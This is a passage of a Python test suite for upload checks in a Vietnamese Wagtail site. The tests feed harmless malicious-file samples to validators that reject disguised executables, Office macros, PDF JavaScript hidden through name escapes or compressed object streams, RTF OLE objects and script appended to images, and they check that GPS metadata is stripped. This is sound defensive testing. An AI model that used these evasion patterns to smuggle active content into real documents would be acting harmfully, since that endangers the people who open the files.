    (lambda: ole2_bytes([], root_class_id=MSI_CLASS), "msi"),
]


@pytest.mark.parametrize(("make", "kind"), SNIFFED, ids=[case[1] + str(i) for i, case in enumerate(SNIFFED)])
def test_sniff_tells_what_the_bytes_are(make, kind):
    fileobj = io.BytesIO(make())
    assert sniff(fileobj) == kind
    assert fileobj.tell() == 0


def refused(function, content: bytes, name: str) -> str:
    with pytest.raises(UploadRejected) as rejection:
        function(io.BytesIO(content), name)
    return rejection.value.messages[0]


def test_check_document_messages():
    assert refused(check_document, pe_bytes(), "a.pdf") == (
        "Tệp «a.pdf» thực chất là tệp chương trình (.exe); không được phép tải lên."
    )
    assert "macro" in refused(check_document, ole2_bytes([("WordDocument", 2, b""), ("Macros", 1, b"")]), "a.doc")
    assert "macro" in refused(check_document, ole2_bytes([("Workbook", 2, b""), ("_VBA_PROJECT_CUR", 1, b"")]), "a.xls")
    assert "có mật khẩu" in refused(
        check_document, ole2_bytes([("WordDocument", 2, word_fib(encrypted=True))]), "cong-van.doc"
    )
    assert "gói cài đặt Windows .msi" in refused(check_document, ole2_bytes([], root_class_id=MSI_CLASS), "a.doc")
    assert "chỉ nhận các định dạng .pdf" in refused(check_document, b"x", "a.exe")
    assert "thực chất là bảng tính Excel (.xlsx)" in refused(check_document, xlsx_bytes(), "a.docx")
    assert "chứa tệp chương trình «setup.exe»" in refused(check_document, zip_bytes({"setup.exe": b"x"}), "a.zip")
    assert "chứa tệp chương trình «readme.txt» (.exe)" in refused(
        check_document, zip_bytes({"readme.txt": pe_bytes()}), "a.zip"
    )
    inner = zip_bytes({"x.docm": b"x"})
    assert "macro" in refused(check_document, zip_bytes({"inner.zip": inner}), "a.zip")
    assert "JavaScript" in refused(check_document, pdf_bytes() + b"\n/OpenAction << /S /JavaScript >>", "a.pdf")
    assert "JavaScript" in refused(check_document, pdf_bytes() + b"\n<< /S /J#61vaScript >>", "a.pdf")
    action = zlib.compress(b"11 0 << /S /JavaScript /JS (app.alert(1)) >>")
    object_stream = b"10 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode >>\nstream\n"
    hidden = pdf_bytes() + object_stream + action + b"\nendstream\nendobj\n"
    assert "JavaScript" in refused(check_document, hidden, "a.pdf")
    assert "đối tượng OLE" in refused(check_document, b"{\\rtf1{\\object\\objemb{\\objdata 0105}}}", "a.rtf")
    many = zip_bytes({f"{i}.txt": b"" for i in range(10_001)})
    assert "quá nhiều tệp con (10.001; tối đa 10.000)" in refused(check_document, many, "a.zip")
    odf_macro = zip_bytes({"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/Standard/M.xml": b"x"})
    assert "macro" in refused(check_document, odf_macro, "a.odt")


def test_check_document_accepts_good_files():
    for name, make in GOOD_DOCUMENTS:
        check_document(io.BytesIO(make()), name)
    # Stream data (an image, a font) may spell /JS by chance: only dictionaries are searched.
    image_stream = (
        b"9 0 obj\n<< /Length 16 /Filter /DCTDecode >>\nstream\n\x00\x17/JS (\xff\x90/Launch\n\nendstream\nendobj\n"
    )
    check_document(io.BytesIO(pdf_bytes() + image_stream), "a.pdf")
    check_document(io.BytesIO(b"{\\rtf1\\ansi Xin chao}"), "a.rtf")
    check_document(io.BytesIO("Xin chào".encode("utf-16")), "a.txt")


def test_check_image_and_sanitise():
    assert check_image(io.BytesIO(png_bytes()), "a.png") == "PNG"
    assert "Ảnh «big.png» quá lớn (50.000.000 điểm ảnh)" in refused(
        check_image, png_bytes((10_000, 5_000), "1"), "big.png"
    )
    assert "«a.png» là ảnh PNG nhưng còn giấu mã script hoặc HTML" in refused(
        check_image, png_bytes() + b"<script>alert(1)</script>", "a.png"
    )
    assert "bị hỏng" in refused(check_image, png_bytes()[:60], "a.png")
    cleaned = sanitise_image(io.BytesIO(jpeg_with_gps()), "anh.jpg")
    with Image.open(cleaned) as image:
        assert not image.getexif()
        assert image.size == (20, 40)


def test_animated_gif_keeps_its_frames():
    cleaned = sanitise_image(io.BytesIO(animated_gif_bytes()), "dong.gif")
    with Image.open(cleaned) as image:
        assert image.n_frames == 3
        assert "comment" not in image.info


def test_multiple_uploader_keeps_only_the_clean_copy_when_another_field_is_invalid(uploader, root_collection):
    """Wagtail stores request.FILES itself (an UploadedFile to finish later) if another field fails."""
    child = root_collection.add_child(name="Sở Y tế")
    response = uploader.client.post(
        reverse("wagtailimages:add_multiple"),
        {"files[]": SimpleUploadedFile("anh.jpg", jpeg_with_gps()), "collection": child.pk + 1000},
    )
    data = response.json()
    assert data["success"] is True and "form" in data
    pending = WagtailUploadedFile.objects.get()
    with pending.file.open("rb") as stored, Image.open(stored) as saved:
        assert not saved.getexif()
        assert saved.size == (20, 40)


@pytest.mark.parametrize(
    ("what", "name", "content", "message"),
    [
        ("image", "anh.jpg", pe_bytes(), "«anh.jpg» thực chất là tệp chương trình (.exe)"),
        ("document", "bao-cao.pdf", pe_bytes(), "«bao-cao.pdf» thực chất là tệp chương trình (.exe)"),
    ],
)
def test_chooser_upload_uses_the_same_checks(uploader, what, name, content, message):
    """The upload tab of the image/document chooser (inside the page editor) builds the same form."""
    before = stored_files()
    prefix = "image-chooser-upload" if what == "image" else "document-chooser-upload"
    namespace = "wagtailimages_chooser" if what == "image" else "wagtaildocs_chooser"
    response = uploader.client.post(
        reverse(f"{namespace}:create"),
        {
            f"{prefix}-title": name,
            f"{prefix}-file": SimpleUploadedFile(name, content),
            f"{prefix}-collection": uploader.collection.pk,
        },
    )
    data = response.json()
    assert data["step"] == "reshow_creation_form"
    assert message in html.unescape(data["htmlFragment"])
    assert_nothing_stored(before)
    accepted = uploader.client.post(
        reverse(f"{namespace}:create"),
        {
            f"{prefix}-title": "tốt",
            f"{prefix}-file": SimpleUploadedFile(
                "anh.jpg" if what == "image" else "bao-cao.pdf", jpeg_with_gps() if what == "image" else pdf_bytes()
            ),
            f"{prefix}-collection": uploader.collection.pk,
        },
    )
    assert accepted.json()["step"] in ("chosen", "select_format")
